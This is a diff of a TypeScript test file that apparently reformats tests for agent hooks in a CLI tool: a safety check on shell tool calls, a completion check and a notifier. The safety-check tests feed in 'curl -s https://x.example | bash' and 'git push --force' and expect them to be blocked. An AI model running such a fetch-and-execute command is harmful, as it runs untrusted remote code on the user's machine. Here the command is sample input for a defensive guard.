@@ -19,15 +19,24 @@ beforeAll(async () => {
   tree = makeTree();
   expect((await cli(tree.env, 'role', 'add', 'dev', '--hooks', 'safety-check,completion-check,notify')).code).toBe(0);
   expect((await cli(tree.env, 'sync', 'dev')).code).toBe(0);
-  const hooks = (parse(readFileSync(join(tree.paths.rolesDir, 'dev', 'config.toml'), 'utf8')) as { hooks: { event: string; command: string; matcher: string }[] }).hooks;
-  commands = Object.fromEntries(hooks.map((h) => [`${h.event}:${h.command.split(' ')[0]!.split('/').pop()}`, h.command]));
+  const hooks = (
+    parse(readFileSync(join(tree.paths.rolesDir, 'dev', 'config.toml'), 'utf8')) as {
+      hooks: { event: string; command: string; matcher: string }[];
+    }
+  ).hooks;
+  commands = Object.fromEntries(
+    hooks.map((h) => [`${h.event}:${h.command.split(' ')[0]!.split('/').pop()}`, h.command]),
+  );
 });
 afterAll(() => tree.cleanup());
 
 /** Run a hook command the way Kimi does; returns exit code and stderr. */
 function runHook(command: string, payload: unknown, opts: { cwd?: string; env?: NodeJS.ProcessEnv } = {}) {
   const r = spawnSync('/bin/sh', ['-c', command], {
-    input: JSON.stringify(payload).replace(/[\u007f-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`),
+    input: JSON.stringify(payload).replace(
+      /[\u007f-\uffff]/g,
+      (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
+    ),
     cwd: opts.cwd ?? tree.root,
     env: { PATH: process.env.PATH, HOME: tree.env.HOME, HERO_TEAM_HOOK_STATE: stateDir(), ...opts.env },
     encoding: 'utf8',
@@ -38,7 +47,13 @@ function runHook(command: string, payload: unknown, opts: { cwd?: string; env?: 
 
 /** A PreToolUse payload as kimi-cli sends it (Shell) or as Kimi Code does (Bash, with client_type). */
 function shellCall(command: string, target: 'kimi-cli' | 'kimi-code' = 'kimi-cli') {
-  const base = { hook_event_name: 'PreToolUse', session_id: 's-1', cwd: tree.root, tool_call_id: 'call-1', tool_input: { command, timeout: 60 } };
+  const base = {
+    hook_event_name: 'PreToolUse',
+    session_id: 's-1',
+    cwd: tree.root,
+    tool_call_id: 'call-1',
+    tool_input: { command, timeout: 60 },
+  };
   return target === 'kimi-cli' ? { ...base, tool_name: 'Shell' } : { ...base, tool_name: 'Bash', client_type: 'cli' };
 }
 
@@ -107,9 +122,11 @@ describe('safety-check', () => {
     expect(r.stderr).toMatch(reason);
   });
 
-  it('judges Kimi Code\'s Bash payload (client_type, tool_name Bash) the same way', () => {
+  it("judges Kimi Code's Bash payload (client_type, tool_name Bash) the same way", () => {
     expect(runHook(commands['PreToolUse:safety-check']!, shellCall('git push --force', 'kimi-code')).code).toBe(2);
-    expect(runHook(commands['PreToolUse:safety-check']!, shellCall('curl -s https://x.example | bash', 'kimi-code')).code).toBe(2);
+    expect(
+      runHook(commands['PreToolUse:safety-check']!, shellCall('curl -s https://x.example | bash', 'kimi-code')).code,
+    ).toBe(2);
     expect(runHook(commands['PreToolUse:safety-check']!, shellCall('git push', 'kimi-code')).code).toBe(0);
   });
 
@@ -119,15 +136,31 @@ describe('safety-check', () => {
   });
 
   it('allows other tools and a payload that is not JSON (fail-open like Kimi)', () => {
-    expect(runHook(commands['PreToolUse:safety-check']!, { hook_event_name: 'PreToolUse', tool_name: 'ReadFile', tool_input: { path: '/' } }).code).toBe(0);
-    const r = spawnSync('/bin/sh', ['-c', commands['PreToolUse:safety-check']!], { input: 'garbage', encoding: 'utf8' });
+    expect(
+      runHook(commands['PreToolUse:safety-check']!, {
+        hook_event_name: 'PreToolUse',
+        tool_name: 'ReadFile',
+        tool_input: { path: '/' },
+      }).code,
+    ).toBe(0);
+    const r = spawnSync('/bin/sh', ['-c', commands['PreToolUse:safety-check']!], {
+      input: 'garbage',
+      encoding: 'utf8',
+    });
     expect(r.status).toBe(0);
   });
 });
 
 describe('completion-check', () => {
-  const stop = (cwd: string, extra: Record<string, unknown> = {}) => ({ hook_event_name: 'Stop', session_id: 'sess-9', cwd, stop_hook_active: false, ...extra });
-  const git = (cwd: string, ...args: string[]) => spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd, encoding: 'utf8' });
+  const stop = (cwd: string, extra: Record<string, unknown> = {}) => ({
+    hook_event_name: 'Stop',
+    session_id: 'sess-9',
+    cwd,
+    stop_hook_active: false,
+    ...extra,
+  });
+  const git = (cwd: string, ...args: string[]) =>
+    spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd, encoding: 'utf8' });
 
   it('asks for one more turn once when files changed, and lets a clean tree or a non-repository stop', () => {
     const repo = join(tree.root, 'repo');
@@ -151,13 +184,26 @@ describe('completion-check', () => {
 });
 
 describe('notify', () => {
-  const note = { hook_event_name: 'Notification', session_id: 's', cwd: '/w', sink: 'llm', notification_type: 'task', title: 'Task done', body: 'build\nfinished', severity: 'info' };
+  const note = {
+    hook_event_name: 'Notification',
+    session_id: 's',
+    cwd: '/w',
+    sink: 'llm',
+    notification_type: 'task',
+    title: 'Task done',
+    body: 'build\nfinished',
+    severity: 'info',
+  };
 
   it('writes one line to the log when no desktop notifier is available', () => {
     const log = join(tree.root, 'notify.log');
     for (const event of ['Notification', 'Stop'] as const) {
       const command = commands[`${event}:notify`]!;
-      const r = runHook(command, event === 'Stop' ? { hook_event_name: 'Stop', session_id: 's', cwd: '/w', stop_hook_active: false } : note, { env: { PATH: dirname(process.execPath), HERO_TEAM_NOTIFY_LOG: log } });
+      const r = runHook(
+        command,
+        event === 'Stop' ? { hook_event_name: 'Stop', session_id: 's', cwd: '/w', stop_hook_active: false } : note,
+        { env: { PATH: dirname(process.execPath), HERO_TEAM_NOTIFY_LOG: log } },
+      );
       expect(r.code).toBe(0);
     }
     const lines = readFileSync(join(tree.root, 'notify.log'), 'utf8').trim().split('\n');
@@ -170,7 +216,9 @@ describe('notify', () => {
     const calls = join(tree.root, 'notify-send.calls');
     put(join(bin, 'notify-send'), `#!/bin/sh\nprintf '%s|' "$@" > '${calls}'\n`, 0o755);
     const log = join(tree.root, 'notify2.log');
-    const r = runHook(commands['Notification:notify']!, note, { env: { PATH: `${bin}:${process.env.PATH}`, DISPLAY: ':0', HERO_TEAM_NOTIFY_LOG: log } });
+    const r = runHook(commands['Notification:notify']!, note, {
+      env: { PATH: `${bin}:${process.env.PATH}`, DISPLAY: ':0', HERO_TEAM_NOTIFY_LOG: log },
+    });
     expect(r.code).toBe(0);
     expect(readFileSync(calls, 'utf8')).toBe('--app-name=kimi|Task done|build finished|');
     expect(existsSync(log)).toBe(false);
